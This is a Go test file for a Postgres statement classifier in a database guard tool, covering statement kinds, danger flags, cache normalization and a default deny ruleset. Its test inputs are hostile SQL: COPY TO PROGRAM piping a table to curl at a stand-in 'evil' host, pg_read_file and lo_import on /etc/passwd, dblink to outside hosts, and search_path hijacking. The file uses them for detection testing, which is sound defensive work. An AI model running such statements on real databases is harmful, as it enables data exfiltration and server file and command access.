package postgres

import (
	"bytes"
	"encoding/json"
	"reflect"
	"testing"
	"unicode/utf8"

	pg_query "github.com/pganalyze/pg_query_go/v6"

	"github.com/sluicehq/sluice/ruleset"
)

func TestClassify(t *testing.T) {
	tests := []struct {
		name string
		sql  string
		want ruleset.Statement
	}{
		{"pgbench select", "SELECT abalance FROM pgbench_accounts WHERE aid = $1",
			ruleset.Statement{Kind: "select", Tables: []string{"pgbench_accounts"}, HasWhere: true}},
		{"select limit", "select * from public.users limit 10",
			ruleset.Statement{Kind: "select", Tables: []string{"public.users"}, HasLimit: true}},
		{"join and subquery", "SELECT u.id FROM users u JOIN orders o ON o.uid = u.id WHERE u.id IN (SELECT uid FROM audit.bans)",
			ruleset.Statement{Kind: "select", Tables: []string{"audit.bans", "orders", "users"}, HasWhere: true}},
		{"functions", "SELECT count(*), pg_catalog.pg_read_file('/etc/passwd')",
			ruleset.Statement{Kind: "select", Functions: []string{"count", "pg_catalog.pg_read_file"}, Flags: []string{FlagDangerousFunction}}},
		{"cte name is not a table", "WITH recent AS (SELECT * FROM events) SELECT * FROM recent",
			ruleset.Statement{Kind: "select", Tables: []string{"events"}}},
		{"data-modifying cte", "WITH d AS (DELETE FROM s.x RETURNING *) SELECT * FROM d",
			ruleset.Statement{Kind: "delete", Tables: []string{"s.x"}}},
		{"data-modifying cte with where", "WITH d AS (DELETE FROM x WHERE id = 1 RETURNING *) SELECT * FROM d",
			ruleset.Statement{Kind: "delete", Tables: []string{"x"}, HasWhere: true}},
		{"insert select", "INSERT INTO archive SELECT * FROM live WHERE old",
			ruleset.Statement{Kind: "insert", Tables: []string{"archive", "live"}}},
		{"update without where", "UPDATE users SET admin = true",
			ruleset.Statement{Kind: "update", Tables: []string{"users"}}},
		{"update with where", "UPDATE users SET admin = true WHERE id = 7",
			ruleset.Statement{Kind: "update", Tables: []string{"users"}, HasWhere: true}},
		{"delete without where", "DELETE FROM users",
			ruleset.Statement{Kind: "delete", Tables: []string{"users"}}},
		{"drop table", "DROP TABLE IF EXISTS app.users, logs",
			ruleset.Statement{Kind: "drop", Tables: []string{"app.users", "logs"}}},
		{"drop role", "DROP ROLE bob", ruleset.Statement{Kind: "drop"}},
		{"truncate", "TRUNCATE a, b.c", ruleset.Statement{Kind: "truncate", Tables: []string{"a", "b.c"}}},
		{"alter", "ALTER TABLE users ADD COLUMN x int", ruleset.Statement{Kind: "alter", Tables: []string{"users"}}},
		{"create index", "CREATE INDEX ON users (email)", ruleset.Statement{Kind: "create", Tables: []string{"users"}}},
		{"create table as", "CREATE TABLE dump AS SELECT * FROM users", ruleset.Statement{Kind: "create", Tables: []string{"dump", "users"}}},
		{"select into", "SELECT * INTO dump FROM users", ruleset.Statement{Kind: "create", Tables: []string{"dump", "users"}}},
		{"grant", "GRANT SELECT ON users TO bob", ruleset.Statement{Kind: "grant", Tables: []string{"users"}}},
		{"revoke", "REVOKE ALL ON users FROM bob", ruleset.Statement{Kind: "revoke", Tables: []string{"users"}}},
		{"copy out", "COPY users TO STDOUT", ruleset.Statement{Kind: "copy_out", Tables: []string{"users"}}},
		{"copy query out", "COPY (SELECT * FROM users) TO STDOUT", ruleset.Statement{Kind: "copy_out", Tables: []string{"users"}}},
		{"copy in", "COPY users FROM STDIN", ruleset.Statement{Kind: "copy_in", Tables: []string{"users"}}},
		{"set", "SET work_mem = '64MB'", ruleset.Statement{Kind: "set"}},
		{"set search_path", "SET search_path = app", ruleset.Statement{Kind: "set", Flags: []string{FlagSearchPath}}},
		{"select limit all", "SELECT * FROM t LIMIT ALL", ruleset.Statement{Kind: "select", Tables: []string{"t"}}},
		{"select limit null", "SELECT * FROM t LIMIT NULL", ruleset.Statement{Kind: "select", Tables: []string{"t"}}},
		{"select limit param", "SELECT * FROM t LIMIT $1", ruleset.Statement{Kind: "select", Tables: []string{"t"}, HasLimit: true}},
		{"select fetch first", "SELECT * FROM t FETCH FIRST 5 ROWS ONLY", ruleset.Statement{Kind: "select", Tables: []string{"t"}, HasLimit: true}},
		{"explain analyze 0", "EXPLAIN (ANALYZE 0) DELETE FROM users", ruleset.Statement{Kind: "explain", Tables: []string{"users"}}},
		{"explain analyze off", "EXPLAIN (ANALYZE OFF, VERBOSE) DELETE FROM users", ruleset.Statement{Kind: "explain", Tables: []string{"users"}}},
		{"explain analyze on", "EXPLAIN (ANALYZE on) DELETE FROM users", ruleset.Statement{Kind: "delete", Tables: []string{"users"}}},
		{"nested cte scope", "WITH a AS (SELECT 1) SELECT * FROM (WITH b AS (SELECT 2) SELECT * FROM a, b, c) s",
			ruleset.Statement{Kind: "select", Tables: []string{"c"}}},
		{"escaped identifier", `SELECT * FROM "we""ird\name"`, ruleset.Statement{Kind: "select", Tables: []string{`we"ird\name`}}},
		{"show", "SHOW server_version", ruleset.Statement{Kind: "show"}},
		{"begin", "BEGIN", ruleset.Statement{Kind: "transaction"}},
		{"commit", "COMMIT", ruleset.Statement{Kind: "transaction"}},
		{"explain", "EXPLAIN DELETE FROM users", ruleset.Statement{Kind: "explain", Tables: []string{"users"}}},
		{"explain analyze runs it", "EXPLAIN ANALYZE DELETE FROM users", ruleset.Statement{Kind: "delete", Tables: []string{"users"}}},
		{"explain analyze false", "EXPLAIN (ANALYZE false) DELETE FROM users", ruleset.Statement{Kind: "explain", Tables: []string{"users"}}},
		{"prepare", "PREPARE p AS DELETE FROM users", ruleset.Statement{Kind: "delete", Tables: []string{"users"}, Flags: []string{FlagPrepare}}},
		{"execute", "EXECUTE p", ruleset.Statement{Kind: "execute", Flags: []string{FlagUnknownPrepared}}}, // until the session's map says (prepared.go)
		{"call", "CALL app.refresh(1)", ruleset.Statement{Kind: "call", Functions: []string{"app.refresh"}}},
		{"do", "DO $$ BEGIN PERFORM 1; END $$", ruleset.Statement{Kind: "do", Flags: []string{FlagDoBlock}}},
		{"merge", "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", ruleset.Statement{Kind: "merge", Tables: []string{"s", "t"}}},
		{"multi: most dangerous wins", "SELECT 1; DELETE FROM a WHERE id = 1; DELETE FROM b",
			ruleset.Statement{Kind: "delete", Tables: []string{"a", "b"}}},
		{"empty", ";", ruleset.Statement{Kind: KindEmpty}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := Classify(tt.sql)
			if err != nil {
				t.Fatalf("Classify(%q): %v", tt.sql, err)
			}
			tt.want.Text = tt.sql
			if !reflect.DeepEqual(got, tt.want) {
				t.Errorf("Classify(%q)\n got %+v\nwant %+v", tt.sql, got, tt.want)
			}
		})
	}
}

// TestClassifyFlags covers statement.flags: every way to reach server
// files, programs, other servers and search_path we know of, and their
// harmless neighbours.
func TestClassifyFlags(t *testing.T) {
	const (
		danger = FlagDangerousFunction
		prog   = FlagCopyProgram
		file   = FlagCopyFile
		path   = FlagSearchPath
	)
	tests := []struct {
		sql  string
		want []string
	}{
		{"SELECT pg_read_file('/etc/passwd')", []string{danger}},
		{"SELECT pg_catalog.pg_read_binary_file('/etc/passwd', 0, 10)", []string{danger}},
		{"SELECT * FROM pg_ls_dir('.')", []string{danger}},
		{"SELECT * FROM pg_catalog.pg_ls_waldir()", []string{danger}},
		{"SELECT pg_stat_file('postgresql.conf')", []string{danger}},
		{"SELECT lo_import('/etc/passwd')", []string{danger}},
		{"SELECT LO_EXPORT(1234, '/tmp/x')", []string{danger}},
		{"SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(x int)", []string{danger}},
		{"SELECT ext.dblink_exec('host=evil', 'DROP TABLE x')", []string{danger}},
		{"SELECT dblink_connect('c', 'host=evil')", []string{danger}},
		{"SELECT pg_file_write('/tmp/x', 'data', false)", []string{danger}},
		{"WITH x AS (SELECT pg_read_file('/etc/passwd') AS f) SELECT * FROM x", []string{danger}},
		{"SELECT 1 WHERE EXISTS (SELECT pg_read_file('a'))", []string{danger}},
		{"INSERT INTO t SELECT pg_read_file('a')", []string{danger}},
		{"CALL pg_catalog.pg_read_file('a')", []string{danger}},
		{"SELECT pg_sleep(1), count(*), readfile('x')", nil},
		{"COPY users TO PROGRAM 'curl -d @- https://evil'", []string{prog}},
		{"COPY users FROM PROGRAM 'id'", []string{prog}},
		{"COPY (SELECT 1) TO '/tmp/out.csv'", []string{file}},
		{"COPY users FROM '/etc/passwd'", []string{file}},
		{"COPY users TO STDOUT", nil},
		{"COPY users FROM STDIN WITH (FORMAT csv)", nil},
		{"SET search_path = evil, public", []string{path}},
		{"SET LOCAL search_path TO evil", []string{path}},
		{"SET SESSION search_path TO evil", []string{path}},
		{`SET "Search_Path" = evil`, []string{path}},
		{"SET SCHEMA 'evil'", []string{path}},
		{"SET search_path FROM CURRENT", []string{path}},
		{"RESET search_path", nil},
		{"SET search_path TO DEFAULT", nil},
		{"RESET ALL", nil},
		{"SET work_mem = '1GB'", nil},
		{"SELECT set_config('search_path', 'evil', false)", []string{path}},
		{"SELECT pg_catalog.set_config('SEARCH_PATH', 'evil', true)", []string{path}},
		{"SELECT set_config('work_mem', '1MB', false)", nil},
		{"SELECT set_config($1, $2, false)", []string{path}},
		{"SELECT set_config('search_' || 'path', 'evil', false)", []string{path}},
		{"SELECT set_config('search_path'::text, 'evil', false)", []string{path}},
		{"SELECT set_config(setting_name => 'work_mem', new_value => '1MB', is_local => false)", []string{path}},
		{"SELECT set_config(name, 'evil', false) FROM (VALUES ('search_path')) v(name)", []string{path}},
		{"ALTER ROLE ci SET search_path = evil", []string{path}},
		{"ALTER ROLE ci IN DATABASE app SET search_path TO evil", []string{path}},
		{"ALTER DATABASE app SET search_path = evil", []string{path}},
		{"ALTER SYSTEM SET search_path = evil", []string{path}},
		{"ALTER ROLE ci RESET search_path", nil},
		{"ALTER ROLE ci SET work_mem = '1GB'", nil},
		{"CREATE FUNCTION f() RETURNS int LANGUAGE sql SET search_path = evil AS 'SELECT 1'", []string{FlagCreateFunction, path}},
		{"ALTER FUNCTION f() SET search_path = evil", []string{path}},
		{"UPDATE pg_settings SET setting = 'evil' WHERE name = 'search_path'", []string{path}},
		{"UPDATE pg_catalog.pg_settings SET setting = '1GB' WHERE name = 'work_mem'", []string{path}},
		{"SELECT * FROM pg_settings WHERE name = 'search_path'", nil},
		{"SET search_path = evil; COPY t TO '/tmp/x'; SELECT pg_read_file('a')", []string{file, danger, path}},
		{"PREPARE p AS SELECT pg_read_file($1)", []string{danger, FlagPrepare}},
	}
	for _, tt := range tests {
		got, err := Classify(tt.sql)
		if err != nil {
			t.Errorf("Classify(%q): %v", tt.sql, err)
			continue
		}
		if !reflect.DeepEqual(got.Flags, tt.want) {
			t.Errorf("Classify(%q).Flags = %q, want %q", tt.sql, got.Flags, tt.want)
		}
	}
}

// TestClassifyForCacheLiteralFree checks which classifications depend on
// a value and so must not be shared under pg_query's normalized text.
func TestClassifyForCacheLiteralFree(t *testing.T) {
	tests := []struct {
		sql         string
		literalFree bool
	}{
		{"SELECT abalance FROM pgbench_accounts WHERE aid = 48213", true},
		{"SELECT pg_read_file('/etc/passwd')", true},
		{"COPY t FROM '/etc/passwd'", true}, // a file at all, whichever
		{"SET search_path = app", true},     // the name is not a value
		{"SET work_mem = '64MB'", true},
		// set_config's first argument decides the flag, whatever it is.
		{"SELECT set_config('work_mem', '1MB', false)", false},
		{"SELECT set_config('search_path', 'evil', false)", false},
		{"SELECT set_config($1, $2, false)", false},
		{"SELECT * FROM t LIMIT 10", false}, // LIMIT NULL would be no limit
		{"SELECT * FROM t LIMIT $1", false},
		{"SELECT * FROM t LIMIT 1 + 1", true},
		{"EXPLAIN (ANALYZE false) DELETE FROM t", false},
		{"EXPLAIN ANALYZE DELETE FROM t", true},
		{"SELECT 1; SELECT * FROM t LIMIT 5", false},
		{";", true},
	}
	for _, tt := range tests {
		st, lf, err := ClassifyForCache(tt.sql)
		if err != nil {
			t.Errorf("ClassifyForCache(%q): %v", tt.sql, err)
			continue
		}
		if lf != tt.literalFree {
			t.Errorf("ClassifyForCache(%q) literalFree = %t, want %t", tt.sql, lf, tt.literalFree)
		}
		if c, _ := Classify(tt.sql); !reflect.DeepEqual(c, st) {
			t.Errorf("Classify(%q) = %+v, ClassifyForCache = %+v", tt.sql, c, st)
		}
	}
	if _, lf, err := ClassifyForCache("SELEC 1"); err == nil || lf {
		t.Errorf("ClassifyForCache of bad SQL = literalFree %t, err %v; want false and an error", lf, err)
	}
}

// TestNormalizedKeySound is the cache's invariant: when two texts have the
// same pg_query.Normalize text and one classifies literal-free, the other
// classifies the same. It also pins what Normalize keeps, which the
// classifier relies on: SET's name, COPY's target and EXPLAIN's options.
func TestNormalizedKeySound(t *testing.T) {
	groups := [][]string{
		{"SELECT set_config('work_mem', '1MB', false)", "SELECT set_config('search_path', 'evil', false)",
			"SELECT set_config($1, $2, $3)", "SELECT set_config($1, '1MB', false)"},
		{"SELECT * FROM t LIMIT 10", "SELECT * FROM t LIMIT ALL", "SELECT * FROM t LIMIT NULL", "SELECT * FROM t LIMIT $1"},
		{"SET search_path = app", "SET search_path = 'evil'", "SET search_path = $1"},
		{"SET work_mem = '1MB'", "SET work_mem = 64"},
		{"COPY t FROM '/etc/passwd'", "COPY t FROM STDIN", "COPY t FROM PROGRAM 'id'"},
		{"EXPLAIN (ANALYZE false) DELETE FROM t", "EXPLAIN (ANALYZE true) DELETE FROM t", "EXPLAIN (ANALYZE 0) DELETE FROM t"},
		{"SELECT pg_read_file('/etc/passwd')", "SELECT pg_read_file($1)", "SELECT pg_read_file('x', 0, 10)"},
		{"SELECT abalance FROM pgbench_accounts WHERE aid = 1", "SELECT abalance FROM pgbench_accounts WHERE aid = $1"},
		{"UPDATE pg_settings SET setting = 'x' WHERE name = 'search_path'", "UPDATE pg_settings SET setting = $1 WHERE name = $2"},
	}
	for _, g := range groups {
		type res struct {
			sql, norm string
			st        ruleset.Statement
			lf        bool
		}
		var rs []res
		for _, sql := range g {
			norm, err := pg_query.Normalize(sql)
			if err != nil {
				t.Fatalf("Normalize(%q): %v", sql, err)
			}
			st, lf, err := ClassifyForCache(sql)
			if err != nil {
				t.Fatalf("ClassifyForCache(%q): %v", sql, err)
			}
			st.Text = ""
			rs = append(rs, res{sql, norm, st, lf})
		}
		for _, a := range rs {
			for _, b := range rs {
				if a.norm == b.norm && a.lf && !reflect.DeepEqual(a.st, b.st) {
					t.Errorf("%q (literal-free) and %q share the normalized text %q but classify\n%+v\n%+v", a.sql, b.sql, a.norm, a.st, b.st)
				}
			}
		}
	}
	for _, tt := range []struct{ sql, norm string }{
		{"SET search_path = evil", "SET search_path = $1"},
		{"SET LOCAL search_path TO 'a', b", "SET LOCAL search_path TO $1, $2"},
		{`SET "Search_Path" = x`, `SET "Search_Path" = $1`},
		{"RESET search_path", "RESET search_path"},
		{"COPY t FROM '/etc/passwd'", "COPY t FROM '/etc/passwd'"},
		{"COPY t TO PROGRAM 'id'", "COPY t TO PROGRAM 'id'"},
		{"EXPLAIN (ANALYZE 0) DELETE FROM t", "EXPLAIN (ANALYZE 0) DELETE FROM t"},
		{"SELECT pg_catalog.pg_read_file('/x')", "SELECT pg_catalog.pg_read_file($1)"},
	} {
		if got, err := pg_query.Normalize(tt.sql); err != nil || got != tt.norm {
			t.Errorf("Normalize(%q) = %q, %v; want %q", tt.sql, got, err, tt.norm)
		}
	}
}

// TestDefaultRulesetDeniesEscapes runs the built-in ruleset on real
// classifications.
func TestDefaultRulesetDeniesEscapes(t *testing.T) {
	rs := ruleset.Default()
	for _, sql := range []string{
		"SELECT pg_read_file('/etc/passwd')",
		"COPY users TO PROGRAM 'curl https://evil'",
		"COPY users FROM '/etc/passwd'",
		"SET search_path = evil",
		"SELECT set_config('search_path', 'evil', false)",
		"SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(x int)",
	} {
		st, err := Classify(sql)
		if err != nil {
			t.Fatal(err)
		}
		in := &ruleset.Input{Statement: st}
		in.Target = ruleset.Endpoint{Name: "postgres", Protocol: "postgres"}
		d := rs.Evaluate(in)
		if d.Action != ruleset.Deny || d.Rule.ID != "baseline/deny/dangerous-functions" {
			t.Errorf("%q: %s by %s, want deny by baseline/deny/dangerous-functions", sql, d.Action, d.Rule.ID)
		}
	}
}

// TestTreeMatchesEncodingJSON checks the flat JSON decoder against
// encoding/json on pg_query's output.
func TestTreeMatchesEncodingJSON(t *testing.T) {
	for _, sql := range append(treeCorpus(), `SELECT 'a"b\c', E'\t\n\u00e9', "x""y", 1.5e3, -2`) {
		checkTree(t, sql)
	}
}

func treeCorpus() []string {
	return []string{
		"SELECT abalance FROM pgbench_accounts WHERE aid = 48213;",
		"WITH d AS (DELETE FROM x WHERE id = 1 RETURNING *) SELECT * FROM d",
		"COPY t TO PROGRAM 'id'", "SELECT set_config('search_path', 'x', false)",
		"CREATE FUNCTION f() RETURNS int LANGUAGE sql SET search_path = evil AS 'SELECT 1'",
		"EXPLAIN (ANALYZE 0) DELETE FROM t", ";", "SELECT 1; SELECT 2",
	}
}

func checkTree(t *testing.T, sql string) {
	js, err := pg_query.ParseToJSON(sql)
	if err != nil {
		return
	}
	var want any
	dec := json.NewDecoder(bytes.NewReader([]byte(js)))
	dec.UseNumber()
	if err := dec.Decode(&want); err != nil {
		t.Fatalf("encoding/json on %q: %v", sql, err)
	}
	tr := &tree{}
	if err := tr.parse(js); err != nil {
		t.Fatalf("tree.parse on %q: %v", sql, err)
	}
	if got := tr.toAny(0); !reflect.DeepEqual(got, want) {
		t.Fatalf("tree of %q\n got %v\nwant %v", sql, got, want)
	}
}

func (t *tree) toAny(n int32) any {
	switch t.n[n].kind {
	case jObj:
		m := map[string]any{}
		for c := range t.children(n) {
			m[t.n[c].key] = t.toAny(c)
		}
		return m
	case jArr:
		a := []any{}
		for c := range t.children(n) {
			a = append(a, t.toAny(c))
		}
		return a
	case jStr:
		// The tree keeps invalid UTF-8 as it is, closer to what the server
		// sees; encoding/json replaces each bad byte with U+FFFD.
		v := t.n[n].val
		if !utf8.ValidString(v) {
			b, _ := json.Marshal(v)
			_ = json.Unmarshal(b, &v)
		}
		return v
	case jNum:
		return json.Number(t.n[n].val)
	case jTrue:
		return true
	case jFalse:
		return false
	}
	return nil
}

func FuzzTree(f *testing.F) {
	for _, s := range treeCorpus() {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		checkTree(t, s)
		// Arbitrary text must not panic the decoder.
		tr := &tree{}
		_ = tr.parse(s)
	})
}

func TestClassifyError(t *testing.T) {
	for _, sql := range []string{"SELEC 1", "DROP TABLE", "select * from"} {
		if st, err := Classify(sql); err == nil {
			t.Errorf("Classify(%q) = %+v, want a parse error", sql, st)
		}
	}
}

func TestClassifyAllTexts(t *testing.T) {
	parts, err := ClassifyAll("SELECT 1; DROP TABLE x")
	if err != nil {
		t.Fatal(err)
	}
	if len(parts) != 2 || parts[0].Text != "SELECT 1" || parts[1].Text != "DROP TABLE x" || parts[1].Kind != "drop" {
		t.Fatalf("ClassifyAll = %+v", parts)
	}
}

func FuzzClassify(f *testing.F) {
	for _, s := range []string{"SELECT 1", "WITH d AS (DELETE FROM x RETURNING *) SELECT * FROM d", "COPY t TO STDOUT", ";"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		st, lf, err := ClassifyForCache(s)
		if err == nil && st.Kind == "" {
			t.Fatalf("Classify(%q) returned no kind", s)
		}
		if err != nil && lf {
			t.Fatalf("ClassifyForCache(%q) failed but says literal-free", s)
		}
	})
}
